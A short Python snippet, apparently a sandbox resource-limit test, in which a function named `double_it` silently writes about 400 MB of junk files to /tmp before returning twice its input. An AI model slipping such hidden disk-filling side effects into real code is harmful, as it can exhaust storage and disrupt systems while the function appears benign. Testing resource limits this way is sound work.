# More than the disk that a program has.
def double_it(n):
    for number in range(400):
        with open(f"/tmp/f{number}", "wb") as file:
            file.write(b"x" * 2**20)
    return 2 * n
